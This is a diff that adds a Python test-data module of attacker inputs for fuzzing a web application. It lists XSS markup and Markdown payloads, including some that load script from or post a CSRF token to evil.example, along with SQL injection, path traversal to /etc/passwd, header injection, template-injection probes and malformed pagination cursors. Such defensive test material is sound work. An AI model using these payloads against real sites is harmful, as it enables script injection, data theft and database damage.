@@ -1,0 +1,227 @@
+"""What attackers send: markup that should run, and text that should break something."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+#: Markup and addresses that run where a page takes them for its own.
+SCRIPTS = (
+    # elements
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--></script><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x0c>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "＜script＞alert(1)＜/script＞",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<form action=//evil.example/><input name=csrf_token><button>누르세요</button></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    # handlers
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x\nonerror\n=\nalert(1)>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "` onmouseover=alert(1) `",
+    "x onclick=alert(1) y",
+    '" autofocus onfocus="alert(1)" x="',
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    # other namespaces
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    # addresses
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "//evil.example/",
+    "https://evil.example/\"onmouseover='alert(1)'",
+    # Markdown
+    "[누르세요](javascript:alert(1))",
+    "[누르세요](JAVASCRIPT&colon;alert(1))",
+    "[누르세요](javascript&#58;alert(1))",
+    "[누르세요](java&#10;script:alert(1))",
+    "[누르세요](<javascript:alert(1)>)",
+    "[누르세요](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "![그림](javascript:alert(1))",
+    '![그림](/x.webp"onerror="alert(1))',
+    '![그림](/x.webp "><img src=x onerror=alert(1)>")',
+    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
+    '![x](https://evil.example/x.png "\'><script>alert(1)</script>")',
+    "<javascript:alert(1)>",
+    '<https://evil.example/"onmouseover=alert(1)>',
+    "https://evil.example/<script>alert(1)</script>",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<script>alert(1)</script>`",
+    "||<img src=x onerror=alert(1)>||",
+    "# <img src=x onerror=alert(1)>\n\n## <script>alert(1)</script>\n\n## [x](javascript:alert(1))",
+    "| <script>alert(1)</script> | b |\n|-|-|\n| ![x](javascript:alert(1)) | c |",
+    "> > > <details open ontoggle=alert(1)>",
+    "- [x] <input onfocus=alert(1) autofocus>",
+    "@<script>alert(1)</script> #<script>alert(1)</script>",
+    # JSON within a page, templates, formats
+    '{"@context":"</script><script>alert(1)</script>"}',
+    "\u2028alert(1)\u2029</script><script>alert(1)</script>",
+    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
+    "{% include '/etc/passwd' %}${7*7}<%= 7*7 %>#{7*7}",
+    "{0.__class__.__init__.__globals__}{member}%(password)s%s%n",
+    # what hides text
+    "\u202e<tpircs>\u202c<script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<plaintext>",
+    "<a id=defaultView><a id=defaultView name=csrf_token>",
+)
+
+NUL = "\x00"
+DEEP = "[" * 3_000
+#: A cursor is base64 of JSON.
+DEEP_CURSOR = base64.urlsafe_b64encode(DEEP.encode()).decode()
+
+
+def _cursor(value: object) -> str:
+    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
+
+
+#: Values of query parameters and form fields that break what does not expect them.
+TEXTS = (
+    "",
+    " ",
+    NUL,
+    f"앞{NUL}뒤",
+    "\ufffd\ufffe\uffff",
+    "\u202e\u2066\u200b\ufeff",
+    "\ud7ff\ue000",
+    "💥" * 300,
+    "가" * 60_000,
+    "a" * 60_000,
+    "' OR '1'='1' --",
+    '"; DROP TABLE post; --',
+    "1; SELECT SLEEP(5)",
+    "%' ESCAPE '%",
+    "\\",
+    "%",
+    "_",
+    "-1",
+    "0",
+    "1e999",
+    "NaN",
+    "٣",
+    "９９",
+    "²",
+    "999999999999999999",
+    "9223372036854775808",
+    "9" * 5_000,
+    "0000011" + "9" * 20,
+    "true",
+    "null",
+    "[]",
+    "{}",
+    DEEP,
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "file:///etc/passwd",
+    "http://[::1",
+    "//evil.example",
+    "\r\nX-Evil: 1\r\n\r\n<script>",
+    "%0d%0aX-Evil:%201",
+    "2026-02-30T25:61",
+    "0001-01-01T00:00",
+    "9999-12-31T23:59",
+    "2026-01-01T00:00:00+99:99",
+    DEEP_CURSOR,
+    "=" * 10,
+    "가나다==",
+    _cursor(["a"]),
+    _cursor(["a", None, None]),
+    _cursor(["a", 10**30, 10**30]),
+    _cursor(["a", "2026-01-01T00:00:00", 2**63]),
+    _cursor(["b", "9999-99-99", 1]),
+    _cursor(["a", "\ud800", "\ud800"]),
+    _cursor(["a", 1.5, 1.5]),
+    _cursor([["a"], 1, 2]),
+    _cursor({"a": 1, "b": 2, "c": 3}),
+)
+
+#: Those of them that a database, or what talks to it, may choke on: bytes it cannot hold, numbers beyond its own.
+FOR_DATABASES = (
+    NUL,
+    "\ufffd\ufffe\uffff",
+    "💥" * 300,
+    "' OR '1'='1' --",
+    "%' ESCAPE '%",
+    "9223372036854775808",
+    "9" * 5_000,
+    "0000011" + "9" * 20,
+    "0001-01-01T00:00",
+    _cursor(["a", 10**30, 10**30]),
+    _cursor(["a", "2026-01-01T00:00:00", 2**63]),
+    _cursor(["a", "\ud800", "\ud800"]),
+)
+
+#: The same for a part of an address, as it stands in the address.
+PARTS = (
+    "0",
+    "-1",
+    "01",
+    "2147483648",
+    "9223372036854775807",
+    "9223372036854775808",
+    "1" + "0" * 40,
+    "9" * 5_000,
+    "%00",
+    "1%00",
+    "%ff%fe",
+    "%ed%a0%80",
+    "%f0%9f%92%a5",
+    "%EC%83%88",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "..%5c..%5cwin.ini",
+    "%2e%2e",
+    ".",
+    "a" * 4_000,
+    "1;drop",
+    "1%27%20OR%201=1",
+    "%0d%0aX-Evil:1",
+    "%3Cscript%3E",
+    "%252e%252e%252f",
+    "*",
+    "{}",
+)
+
+
+def words(text: str) -> list[str]:
+    """The words of a long list, written as a text."""
+    return text.split()
